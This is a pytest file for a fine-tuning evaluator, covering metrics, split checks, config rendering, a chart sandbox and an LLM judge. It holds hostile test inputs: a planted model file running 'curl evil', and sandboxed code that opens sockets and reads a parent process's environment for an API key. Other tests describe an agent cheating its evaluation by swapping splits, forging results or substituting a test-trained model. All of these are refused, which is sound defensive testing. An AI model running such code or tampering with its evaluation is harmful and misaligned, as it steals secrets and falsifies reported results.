"""Fast tests of the evaluator's parts: metrics, extraction edge cases, split selection, the
OpenCompass config, the chart sandbox and the LLM judge (against a local HTTP server)."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from fixtures import toy
from fixtures.workspace import Campaign

from ftapi.campaign import FineTuneCampaignSpec
from ftapi.catalog import get_benchmark
from ftapi.results import EvaluationResult, FailureKind, TrainingResult
from ftapi.steps import StepKind
from fteval import answers, metrics
from fteval.adapters import EvalItem
from fteval.errors import EvalStepError
from fteval.items import load_items, read_splits, split_items
from fteval.judge import JudgeConfig, judge_from_spec, llm_judge_equivalent
from fteval.occonfig import DatasetSpec, ModelSpec, dataset_dict, model_dict, render_config
from fteval.prompts import build_prompt, choose_shots
from fteval.sandbox import run_plot_capture
from fteval.targets import requested_splits, resolve_target, result_file


class TestMetrics:
    @pytest.mark.parametrize(
        ("predicted", "expected", "equal"),
        [
            ("042", "42", True),
            ("\\text{42}", "42", True),
            ("1,000", "1000", True),
            ("42.0", "42", True),
            ("\\dfrac{1}{2}", "0.5", True),
            ("2\\sqrt{2}", "\\sqrt{8}", True),
            ("43", "42", False),
            ("", "42", False),
            ("x" * 1000, "42", False),
        ],
    )
    def test_math_equal(self, predicted: str, expected: str, equal: bool) -> None:
        assert metrics.math_equal(predicted, expected) is equal

    def test_rouge_l_matches_the_lcs_formula(self) -> None:
        # LCS("the cat sat on the mat", "the cat was sitting on a mat") = the cat on mat
        assert metrics.rouge_l("The cat sat on the mat.", "the cat was sitting on a mat") == (
            pytest.approx(2 * (4 / 6) * (4 / 7) / (4 / 6 + 4 / 7))
        )
        assert metrics.rouge_l("", "x") == 0.0
        assert metrics.rouge_l("离心五分钟", "离心5分钟") == pytest.approx(0.8)

    def test_kendall_tau(self) -> None:
        assert metrics.kendall_tau([0, 1, 2, 3], [0, 1, 2, 3]) == pytest.approx(1.0)
        assert metrics.kendall_tau([3, 2, 1, 0], [0, 1, 2, 3]) == pytest.approx(-1.0)
        assert metrics.kendall_tau([1, 0, 2, 3], [0, 1, 2, 3]) == pytest.approx(4 / 6)
        with pytest.raises(ValueError):
            metrics.kendall_tau([0, 1], [0, 2])

    def test_f1_helpers(self) -> None:
        assert metrics.set_f1({"A"}, {"A", "C"}) == pytest.approx(2 / 3)
        assert metrics.binary_f1([("x", "x"), ("y", "x")], "x") == pytest.approx(2 / 3)
        pairs = [("a", "a"), ("b", "a")]
        assert metrics.macro_f1(pairs, ("a", "b", "c")) == pytest.approx((2 / 3 + 0) / 2)

    def test_numbers(self) -> None:
        assert metrics.parse_number("$1,234.5") == 1234.5
        assert metrics.parse_number("12%") == 12.0
        assert metrics.parse_number("twelve") is None
        assert metrics.within_tolerance(109, 100) and not metrics.within_tolerance(111, 100)


class TestExtraction:
    def test_boxed_takes_the_last_and_balances_braces(self) -> None:
        assert answers.extract_boxed("\\boxed{1} then \\boxed{\\frac{1}{2}}") == "\\frac{1}{2}"
        assert answers.extract_boxed("\\boxed{") is None

    def test_json_prefers_the_last_object_with_the_key(self) -> None:
        text = 'Use {"answer": "A"} as format. Mine: ```json\n{"answer": ["B", "C"]}\n```'
        assert answers.extract_json_answer(text) == ["B", "C"]
        assert answers.extract_json_output('{"output": "C{1}C"} {"note": 1}') == "C{1}C"
        assert answers.extract_json_answer('{"answer": ') is None

    def test_other_formats(self) -> None:
        assert answers.extract_final_answer("x\nFinal Answer: 12\nFinal Answer: 13") == "13"
        assert answers.extract_choice_letter("A good answer is (C).") == "C"
        assert answers.extract_tagged("[ANSWER_START] a [ANSWER_END]") == "a"
        assert answers.extract_python_code("```python\nprint(1)\n```") == "print(1)"
        assert answers.extract_python_code("print(1)") is None


def _eval_set(tmp_path: Path, n: int, validation: int = 100, test: int = 100):
    from ftapi.steps import MountPaths
    from ftapi.workspace import CampaignLayout

    paths = MountPaths(
        models=str(tmp_path / "m"), datasets=str(tmp_path / "d"), workspace=str(tmp_path / "w")
    )
    layout = CampaignLayout(paths, "ns", "c")
    toy.write_benchmark(layout, toy.benchmark_rows(n), validation, test)
    return layout, layout.splits_file(toy.BENCHMARK, validation, test)


class TestItems:
    def test_the_recorded_split_is_scored_in_its_order(self, tmp_path: Path) -> None:
        layout, splits_file = _eval_set(tmp_path, 11, validation=4)
        items = load_items(layout.benchmark_file(toy.BENCHMARK))
        assert len(items) == 11 and items[3].id == "toy-3" and items[3].index == 3
        splits = read_splits(splits_file, None)
        validation = split_items(items, splits, "validation")
        test = split_items(items, splits, "test")
        assert [i.id for i in validation] == ["toy-0", "toy-1", "toy-2", "toy-3"]
        assert [i.index for i in test] == list(range(6, 11))

    def test_a_split_file_changed_after_prepare_is_refused(self, tmp_path: Path) -> None:
        _, splits_file = _eval_set(tmp_path, 10)
        recorded = json.loads(splits_file.read_text())
        with pytest.raises(EvalStepError, match="not the ones this campaign was prepared with"):
            read_splits(splits_file, "0" * 64)
        read_splits(splits_file, recorded["sha256"])  # the campaign's own hash
        recorded["validation"][0] = "toy-9"  # swap in an item the agent saw answered
        splits_file.write_text(json.dumps(recorded))
        with pytest.raises(EvalStepError, match="changed after prepare") as caught:
            read_splits(splits_file, recorded["sha256"])
        assert caught.value.kind is FailureKind.ENVIRONMENT

    @pytest.mark.parametrize(
        "content",
        ['{"answer": "1"}\n', '{"question": "q", "answer": "1"}\n', "not json\n"],
    )
    def test_bad_sets_fail(self, tmp_path: Path, content: str) -> None:
        path = tmp_path / "eval.jsonl"
        path.write_text(content, encoding="utf-8")
        with pytest.raises(EvalStepError) as caught:
            load_items(path)
        assert caught.value.kind is FailureKind.ENVIRONMENT

    def test_missing_split_file_says_to_prepare(self, tmp_path: Path) -> None:
        with pytest.raises(EvalStepError, match="has the prepare step run"):
            read_splits(tmp_path / "splits-v100-t100.json", None)

    def test_prompt_is_the_description_then_the_rendered_question(self) -> None:
        item = EvalItem(0, "Pick one.\n\nA. x\nB. y", "B", {"choices": ["x", "y"]})
        assert build_prompt("Task {with braces}.", item) == (
            "Task {with braces}.\n\nPick one.\n\nA. x\nB. y"
        )

    def test_few_shot_prompt_puts_answered_examples_of_the_subject_first(self) -> None:
        def finance(i: int, subject: str) -> EvalItem:
            return EvalItem(i, f"{subject} q{i}?", "AB"[i % 2], group=subject)

        pool = [finance(0, "tax"), finance(1, "bank"), finance(2, "bank"), finance(3, "tax")]
        item = finance(9, "bank")
        shots = choose_shots(item, pool, 3)
        assert [s.index for s in shots] == [1, 2, 0]  # its subject first, then file order
        prompt = build_prompt("Finance.", item, shots, "答案：{answer}")
        assert prompt == (
            "Finance.\n\nbank q1?\n答案：B\n\nbank q2?\n答案：A\n\ntax q0?\n答案：A\n\nbank q9?"
        )

    def test_financeiq_split_files_are_five_shot(self, tmp_path: Path) -> None:
        from ftapi.steps import MountPaths
        from ftapi.workspace import CampaignLayout
        from fteval.main import load_shots, write_split_file

        paths = MountPaths(
            models=str(tmp_path / "m"), datasets=str(tmp_path / "d"), workspace=str(tmp_path / "w")
        )
        layout = CampaignLayout(paths, "ns", "c")
        benchmark = get_benchmark("FinanceIQ_gen")
        assert load_shots(benchmark, layout) is None  # a cache prepared without examples
        layout.shots_file(benchmark.key).parent.mkdir(parents=True)
        rows = [
            {"id": f"dev-{i}", "group": "银行", "question": f"例{i}", "answer": "C"}
            for i in range(7)
        ]
        layout.shots_file(benchmark.key).write_text(
            "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8"
        )
        shots = load_shots(benchmark, layout)
        assert shots is not None and shots.count == 5 and len(shots.pool) == 7
        item = EvalItem(0, "问题？\nA. 甲\nC. 丙", "A", group="银行")
        path = tmp_path / "validation.jsonl"
        write_split_file(path, [item], benchmark.description, shots)
        prompt = json.loads(path.read_text(encoding="utf-8"))["ft_prompt"]
        assert prompt.startswith(benchmark.description + "\n\n例0")
        assert prompt.count("答案是: C") == 5 and "例5" not in prompt
        assert prompt.endswith("问题？\nA. 甲\nC. 丙")
        assert load_shots(get_benchmark("aime25"), layout) is None  # zero-shot benchmarks


class TestTargets:
    def _trained(self, campaign: Campaign, iteration: int, adapter: bool) -> Path:
        output = campaign.layout.train_dir(iteration) / "output"
        output.mkdir(parents=True)
        if not adapter:
            (output / "config.json").write_text("{}", encoding="utf-8")
        relative = str(output.relative_to(campaign.paths.workspace))
        result = TrainingResult(mode="full", ok=True, output_dir=relative, adapter=adapter)
        (output.parent / "result.json").write_text(result.model_dump_json(), encoding="utf-8")
        return output

    def test_models_splits_and_result_files_per_step(self, campaign: Campaign) -> None:
        layout, base = campaign.layout, campaign.layout.base_model_dir("tiny-qwen2")
        adapter = self._trained(campaign, 2, adapter=True)
        full = self._trained(campaign, 3, adapter=False)
        cases = [
            (campaign.request(StepKind.BASELINE), base, None, ["validation", "test"]),
            (campaign.request(StepKind.EVAL, 2), base, adapter, ["validation"]),
            (campaign.request(StepKind.EVAL, 3), full, None, ["validation"]),
            (campaign.request(StepKind.FINAL, 2), base, adapter, ["test"]),
            (campaign.request(StepKind.FINAL), base, None, ["test"]),
        ]
        for request, model_dir, adapter_dir, splits in cases:
            target = resolve_target(request, layout)
            assert (target.model_dir, target.adapter_dir) == (model_dir, adapter_dir)
            assert requested_splits(request) == splits
        final = campaign.request(StepKind.FINAL, 2)
        assert result_file(final, layout, "test") == layout.root / "final/eval/test.json"
        baseline = campaign.request(StepKind.BASELINE)
        assert result_file(baseline, layout, "test") == layout.root / "baseline/eval/test.json"
        assert resolve_target(final, layout).label == "iter-002"

    def test_failed_training_cannot_be_evaluated(self, campaign: Campaign) -> None:
        path = campaign.layout.train_dir(4) / "result.json"
        path.parent.mkdir(parents=True)
        failed = TrainingResult(mode="full", ok=False, failure=FailureKind.OOM)
        path.write_text(failed.model_dump_json(), encoding="utf-8")
        with pytest.raises(EvalStepError, match="did not succeed"):
            resolve_target(campaign.request(StepKind.EVAL, 4), campaign.layout)

    def test_a_result_pointing_at_another_model_is_refused(self, campaign: Campaign) -> None:
        """A later step rewrote iteration 5's result.json to score another folder (a
        planted model, or the best iteration's) as iteration 5's."""
        other = self._trained(campaign, 6, adapter=False)
        forged = TrainingResult(
            mode="full",
            ok=True,
            output_dir=str(other.relative_to(campaign.paths.workspace)),
        )
        path = campaign.layout.train_dir(5) / "result.json"
        path.parent.mkdir(parents=True)
        path.write_text(forged.model_dump_json(), encoding="utf-8")
        with pytest.raises(EvalStepError, match="outside its own training folder"):
            resolve_target(campaign.request(StepKind.EVAL, 5), campaign.layout)

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("config.json", {"model_type": "qwen2", "auto_map": {"AutoConfig": "evil.Cfg"}}),
            ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["evil.Tok", None]}}),
            ("evil.py", None),
        ],
    )
    def test_models_that_bring_their_own_code_are_refused(
        self, campaign: Campaign, name: str, content: dict | None
    ) -> None:
        output = self._trained(campaign, 7, adapter=False)
        (output / name).write_text(
            "import os; os.system('curl evil')" if content is None else json.dumps(content),
            encoding="utf-8",
        )
        with pytest.raises(EvalStepError, match="own code") as caught:
            resolve_target(campaign.request(StepKind.EVAL, 7), campaign.layout)
        assert caught.value.kind is FailureKind.ENVIRONMENT


class TestOpenCompassConfig:
    def test_remote_code_is_off_in_every_backend(self) -> None:
        for gpus in (0, 1):
            model = model_dict(ModelSpec("m", Path("/m"), None, gpus, 32, 4))
            assert model["model_kwargs"]["trust_remote_code"] is False
        cpu = model_dict(ModelSpec("m", Path("/m"), None, 0, 32, 4))
        assert cpu["tokenizer_kwargs"]["trust_remote_code"] is False

    def _render(self, gpus: int, adapter: Path | None) -> str:
        model = ModelSpec("iter-001", Path("/m"), adapter, gpus, 32, 4, lora_rank=20)
        dataset = DatasetSpec('aime25-"validation"', Path("/d/v.jsonl"), "aime25", 32)
        return render_config(model, [dataset], "t")

    def test_cpu_config_uses_hf_with_peft(self) -> None:
        spec = ModelSpec("iter-001", Path("/m"), Path("/a"), 0, 32, 4)
        model = model_dict(spec)
        assert model["type"] == "HuggingFacewithChatTemplate"
        assert model["peft_path"] == "/a" and model["run_cfg"] == {"num_gpus": 0}
        assert model["model_kwargs"]["device_map"] == "cpu"
        assert model["generation_kwargs"] == {"do_sample": False}
        assert [r["role"] for r in model["meta_template"]["round"]] == ["HUMAN", "BOT"]
        source = self._render(0, Path("/a"))
        compile(source, "config.py", "exec")  # valid Python, whatever the names hold
        assert "from fteval.evaluator import FtBenchmarkEvaluator" in source
        assert "type=HuggingFacewithChatTemplate" in source
        assert 'abbr="aime25-\\"validation\\""' in source
        dataset = dataset_dict(DatasetSpec("d", Path("/d.jsonl"), "aime25", 32))
        reader = {"input_columns": ["ft_prompt"], "output_column": "ft_answer"}
        assert dataset["reader_cfg"] == reader
        evaluator = {"type": "FtBenchmarkEvaluator", "benchmark": "aime25"}
        assert dataset["eval_cfg"]["evaluator"] == evaluator

    def test_gpu_config_uses_vllm_with_lora(self) -> None:
        source = self._render(2, Path("/a"))
        assert "VLLMwithChatTemplate" in source and "HuggingFace" not in source
        assert 'lora_path="/a"' in source and "max_lora_rank=32" in source
        assert "tensor_parallel_size=2" in source and "num_gpus=2" in source

    def test_gpus_without_vllm_use_the_hf_backend_on_the_gpus(self) -> None:
        model = model_dict(ModelSpec("m", Path("/m"), Path("/a"), 2, 32, 4, vllm=False))
        assert model["type"] == "HuggingFacewithChatTemplate"
        assert model["model_kwargs"]["device_map"] == "auto"
        assert model["model_kwargs"]["torch_dtype"] == "torch.bfloat16"
        assert model["run_cfg"] == {"num_gpus": 2} and model["peft_path"] == "/a"

    def test_several_samples_per_item_sample_and_replicate(self) -> None:
        cpu = model_dict(ModelSpec("m", Path("/m"), None, 0, 32, 4, sampling=True))
        assert cpu["generation_kwargs"] == {"do_sample": True, "temperature": 0.6, "top_p": 0.95}
        gpu = model_dict(ModelSpec("m", Path("/m"), None, 1, 32, 4, sampling=True))
        assert gpu["generation_kwargs"] == {"temperature": 0.6, "top_p": 0.95}
        assert model_dict(ModelSpec("m", Path("/m"), None, 1, 32, 4))["generation_kwargs"] == {
            "temperature": 0.0
        }
        assert dataset_dict(DatasetSpec("d", Path("/d"), "aime25", 32, samples=4))["n"] == 4
        assert "n" not in dataset_dict(DatasetSpec("d", Path("/d"), "aime25", 32))


class TestSamplesPerItem:
    """OpenCompass' own replication (``n``) and replica grouping, read by fteval.results."""

    ITEMS = tuple(
        EvalItem(index=i, question=f"What is {i} + {7 - i}?", answer="7") for i in range(3)
    )

    def _opencompass_results(self, tmp_path: Path, answers: list[list[str]]) -> dict:
        from opencompass.datasets import CustomDataset

        from fteval.evaluator import FtBenchmarkEvaluator
        from fteval.main import write_split_file

        samples = len(answers)
        path = tmp_path / "validation.jsonl"
        write_split_file(path, list(self.ITEMS), "Answer in \\boxed{}.")
        reader = {"input_columns": ["ft_prompt"], "output_column": "ft_answer"}
        dataset = CustomDataset(path=str(path), local_mode=True, reader_cfg=reader, n=samples)
        test_set = dataset.test
        assert len(test_set) == samples * len(self.ITEMS)  # replica after replica
        predictions = [f"\\boxed{{{a}}}" for replica in answers for a in replica]
        result = FtBenchmarkEvaluator("aime25").evaluate(
            1,
            samples,
            test_set,
            predictions=predictions,
            references=test_set["ft_answer"],
            test_set=test_set,
        )
        return json.loads(json.dumps(result, default=float))  # as OpenCompass writes it

    def _read(self, data: dict, split: str, samples: int = 1) -> EvaluationResult:
        from fteval.results import evaluation_result

        return evaluation_result(
            data,
            split=split,
            benchmark="aime25",
            metric="accuracy",
            items={item.index: item for item in self.ITEMS},
            model="m",
            adapter=None,
            samples=samples,
        )

    def test_item_scores_average_the_samples(self, tmp_path: Path) -> None:
        from fteval.results import read_results

        # Three samples per item: item 0 always right, item 1 once, item 2 never.
        answers = [["7", "7", "1"], ["7", "2", "1"], ["7", "3", "1"]]
        data = self._opencompass_results(tmp_path, answers)
        path = tmp_path / "results.json"
        path.write_text(json.dumps(data))
        assert read_results(path, "accuracy", 3) == data
        with pytest.raises(EvalStepError, match="no 'accuracy' score"):
            read_results(path, "accuracy")  # OpenCompass renames the averaged metric
        result = self._read(data, "validation", samples=3)
        assert [round(i.score, 4) for i in result.items] == [1.0, 0.3333, 0.0]
        assert result.score == pytest.approx(100 * (1 + 1 / 3) / 3, abs=1e-3)
        assert result.samples_per_item == 3 and result.n_items == 3
        # Items wrong in most samples are shown to the agent, with one of the wrong answers.
        assert [(w.index, w.predicted) for w in result.wrong_answers] == [
            (1, "\\boxed{2}"),
            (2, "\\boxed{1}"),
        ]

    def test_single_sample_results_read_as_before(self, tmp_path: Path) -> None:
        result = self._read(self._opencompass_results(tmp_path, [["7", "7", "1"]]), "test")
        assert [i.score for i in result.items] == [1.0, 1.0, 0.0]
        assert result.wrong_answers == []  # never test items

    def test_a_missing_sample_fails_loudly(self, tmp_path: Path) -> None:
        data = self._opencompass_results(tmp_path, [["7", "7", "1"], ["7", "2", "1"]])
        data["details"][0]["score"] = data["details"][0]["score"][:1]
        with pytest.raises(EvalStepError, match="1 answers for 2 asked"):
            self._read(data, "validation", samples=2)


class TestSandbox:
    def test_network_is_refused(self) -> None:
        code = "import socket\nsocket.create_connection(('127.0.0.1', 80))"
        run = run_plot_capture(code, None, timeout=20)
        assert not run.executed and "Permission denied" in run.error

    def test_no_socket_reaches_a_listening_server_however_it_is_made(self) -> None:
        """The kernel refuses the socket: ``_socket`` (under any stub), UDP, IPv6, netlink
        and raw sockets alike, and a TCP server on the host's loopback sees no connection."""
        with socket.socket() as server:
            server.bind(("127.0.0.1", 0))
            server.listen(4)
            server.settimeout(1.0)
            port = server.getsockname()[1]
            code = (
                "import _socket\n"
                "errors = []\n"
                "for family, kind in [(2, 1), (2, 2), (10, 1), (16, 3), (17, 3)]:\n"
                "    try:\n"
                "        s = _socket.socket(family, kind)\n"
                "        if (family, kind) == (2, 1):\n"
                f"            s.connect(('127.0.0.1', {port}))\n"
                "        errors.append('open')\n"
                "    except OSError as exc:\n"
                "        errors.append(exc.errno)\n"
                "plt.bar([0], [len([e for e in errors if e == 13])])\n"
                "print(errors)\n"
            )
            run = run_plot_capture(code, None, timeout=20)
            with pytest.raises(TimeoutError):
                server.accept()
        assert run.executed and run.data == [[5]], run

    def test_the_evaluators_environment_stays_closed_to_chart_code(self) -> None:
        """Chart code cannot read the judge's key from ``/proc/<evaluator>/environ``: the
        evaluator is not dumpable while it holds a key (which closes its /proc entries to
        processes of the same user, the pods' case) and chart code runs without capabilities
        (which closes them to a root evaluator's children, this machine's case)."""
        secret = "sk-CHART-" + "7" * 20
        code = (
            "data = open(f'/proc/{os.getppid()}/environ', 'rb').read()\n"
            f"plt.bar([0], [int({secret!r}.encode() in data)])\n"
        )
        driver = (
            "import ctypes, json\n"
            "from fteval.sandbox import protect_process, run_plot_capture\n"
            "protect_process()\n"
            "dumpable = ctypes.CDLL(None).prctl(3, 0, 0, 0, 0)\n"  # PR_GET_DUMPABLE
            f"run = run_plot_capture({code!r}, None, timeout=20)\n"
            "print(json.dumps({'dumpable': dumpable, 'executed': run.executed,"
            " 'data': run.data, 'error': run.error}))"
        )
        done = subprocess.run(
            [sys.executable, "-c", driver],
            env={**os.environ, "FT_LLM_API_KEY": secret},
            capture_output=True,
            text=True,
            timeout=60,
            check=True,
        )
        outcome = json.loads(done.stdout.strip().splitlines()[-1])
        assert outcome["dumpable"] == 0, outcome
        assert not outcome["executed"] and "Permission denied" in outcome["error"], outcome
        assert secret not in done.stdout + done.stderr

    def test_runaway_code_times_out(self) -> None:
        run = run_plot_capture("while True:\n    pass", None, timeout=3)
        assert not run.executed and "timeout" in run.error


class TestJudge:
    def test_only_evaluation_judge_configures_a_judge(
        self, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setenv("FT_LLM_API_KEY", "judge-key")
        monkeypatch.setenv("FT_JUDGE_BUDGET_USD", "0.5")
        llm = {"strongModels": ["openai/strong"], "weakModels": ["openai/weak"]}
        planner_only = FineTuneCampaignSpec(
            baseModel="m", benchmark="aime25", planner={"type": "llm", "llm": llm}
        )
        assert judge_from_spec(planner_only) is None  # the planner's models never judge
        judged = FineTuneCampaignSpec(
            baseModel="m",
            benchmark="aime25",
            evaluation={"judge": {"model": "openai/judge", "apiBase": "http://j:8000/v1"}},
        )
        config = judge_from_spec(judged)
        assert config is not None
        assert (config.model, config.api_base, config.api_key) == (
            "openai/judge",
            "http://j:8000/v1",
            "judge-key",
        )
        assert config.budget_usd == 0.5

    def test_unreachable_judge_gives_no_verdict(self, tmp_path: Path) -> None:
        config = JudgeConfig(
            model="openai/judge",
            api_base="http://127.0.0.1:9/v1",
            api_key="x",
            timeout=5,
            log=tmp_path / "calls.jsonl",
        )
        assert llm_judge_equivalent("71", "70", config) is None
        assert json.loads((tmp_path / "calls.jsonl").read_text())["error"]


def test_a_model_changed_after_training_is_not_scored(campaign: Campaign) -> None:
    from ftapi.digest import tree_digest
    from fteval.targets import check_model_digest

    output = campaign.layout.train_dir(2) / "output"
    output.mkdir(parents=True)
    (output / "config.json").write_text("{}", encoding="utf-8")
    (output / "model.safetensors").write_bytes(b"trained")
    relative = str(output.relative_to(campaign.paths.workspace))
    result = TrainingResult(mode="full", ok=True, output_dir=relative)
    (output.parent / "result.json").write_text(result.model_dump_json(), encoding="utf-8")
    request = campaign.request(StepKind.FINAL, 2).model_copy(
        update={"inputs_sha256": tree_digest([output])}
    )
    target = resolve_target(request, campaign.layout)
    check_model_digest(request, target)  # the model its training reported
    (output / "model.safetensors").write_bytes(b"swapped for one trained on the test set")
    with pytest.raises(EvalStepError, match="not the one iteration 2's training reported"):
        check_model_digest(request, target)
